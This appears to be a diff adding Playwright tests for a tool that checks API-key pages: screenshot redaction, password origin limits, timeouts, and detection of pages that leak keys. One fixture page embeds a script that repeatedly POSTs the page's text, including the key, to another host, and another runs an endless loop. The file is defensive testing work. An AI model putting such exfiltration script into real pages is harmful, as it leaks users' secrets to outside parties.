@@ -1,0 +1,116 @@
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { expect, type Page } from '@playwright/test';
+import { pictureOf } from '../../../src/keypage/screenshot.js';
+import { judgeAt, password, startWithPages, test } from '../support/key-page.js';
+import { startOddPage } from '../support/odd-page.js';
+
+const loginForm = (action: string): string =>
+  `<form method="post" action="${action}"><label>Username <input name="u"></label><label>Password <input type="password" name="p"></label><button>Log in</button></form>`;
+
+/** Colour of a pixel of a PNG, `r,g,b`. */
+const pixel = (page: Page, png: Buffer, at: { x: number; y: number }): Promise<string> =>
+  page.evaluate(
+    async ({ data, x, y }) => {
+      const image = new Image();
+      image.src = `data:image/png;base64,${data}`;
+      await image.decode();
+      const canvas = document.createElement('canvas');
+      [canvas.width, canvas.height] = [image.width, image.height];
+      const context = canvas.getContext('2d');
+      context?.drawImage(image, 0, 0);
+      return [...(context?.getImageData(x, y, 1, 1).data ?? [])].slice(0, 3).join();
+    },
+    { data: png.toString('base64'), ...at },
+  );
+
+test('a picture shows neither a key nor what looks like one', async ({ chromium }) => {
+  const page = await chromium.newPage();
+  try {
+    const secret = 'seven-words-of-a-secret';
+    await page.setContent(
+      `<p id="open">open</p><p><code id="key">${crypto.randomUUID().replaceAll('-', '')}</code></p><p id="known">${secret}</p><input id="field" value="something">`,
+    );
+    const png = await pictureOf(page, [secret]);
+    expect(png).toBeDefined();
+    for (const id of ['key', 'known', 'field']) {
+      const box = await page.locator(`#${id}`).boundingBox();
+      if (!box || !png) throw new Error('no box');
+      const at = { x: Math.round(box.x + 3), y: Math.round(box.y + box.height / 2) };
+      expect(await pixel(page, png, at), id).toBe('0,0,0');
+    }
+  } finally {
+    await page.close();
+  }
+});
+
+test('a failure leaves one picture, and no text with a secret in it', async ({ chromium }, testInfo) => {
+  const service = await startWithPages({ fault: 'message-beside-key' });
+  try {
+    const screenshotsDir = testInfo.outputPath('pictures');
+    const judged = await judgeAt(service, chromium, {}, { screenshotsDir });
+    expect(judged.everything).toContain('key-page.png');
+    expect((await readFile(join(screenshotsDir, 'key-page.png'))).subarray(1, 4).toString()).toBe('PNG');
+    expect(judged.secrets).toContain(password);
+    for (const secret of judged.secrets) expect(judged.everything).not.toContain(secret);
+  } finally {
+    await service.close();
+  }
+});
+
+test('the password goes to nobody but the origins that were named', async ({ chromium }) => {
+  const stranger = await startOddPage({ page: () => loginForm('/log-in') });
+  const page = await startOddPage({ page: () => loginForm(`${stranger.baseUrl}/log-in`) });
+  const redirecting = await startOddPage({
+    page: () => '',
+    handle: (request, response) => {
+      if (request.url !== '/key') return false;
+      response.writeHead(302, { location: stranger.url }).end();
+      return true;
+    },
+  });
+  try {
+    for (const asked of [page, redirecting]) {
+      const judged = await judgeAt(asked, chromium);
+      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
+      expect(judged.everything).toContain('the password was not typed');
+    }
+    expect(stranger.state.requests.filter(({ method }) => method === 'POST')).toEqual([]);
+    const named = await judgeAt(redirecting, chromium, { loginUrl: `${stranger.baseUrl}/` });
+    expect(
+      stranger.state.requests.filter(({ method }) => method === 'POST'),
+      named.everything,
+    ).toHaveLength(1);
+  } finally {
+    await Promise.all([page.close(), stranger.close(), redirecting.close()]);
+  }
+});
+
+test('a page that sends a key elsewhere is stopped, and told of', async ({ chromium }) => {
+  const stranger = await startOddPage({ page: () => '' });
+  const page = await startOddPage({
+    page: ({ keys }) =>
+      `<h1>API key</h1><p>${keys.at(-1) ?? 'No key yet.'}</p><form method="post" action="/key"><button>Generate API key</button></form>
+       <script>setInterval(() => fetch('${stranger.baseUrl}/track', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => {}), 200)</script>`,
+  });
+  try {
+    const judged = await judgeAt(page, chromium, { username: undefined, password: undefined });
+    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
+    expect(judged.observations.map(({ fact }) => fact).join()).toContain('the suite stopped it');
+  } finally {
+    await Promise.all([page.close(), stranger.close()]);
+  }
+});
+
+test('a page that hangs costs time only', async ({ chromium }) => {
+  const page = await startOddPage({
+    page: () => '<p>Your API key</p><script>setTimeout(() => { for (;;) {} }, 50)</script>',
+  });
+  try {
+    const judged = await judgeAt(page, chromium, {}, { deadlineMs: 3_000 });
+    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
+    expect(judged.everything).toContain('took longer than 3 s');
+  } finally {
+    await page.close();
+  }
+});
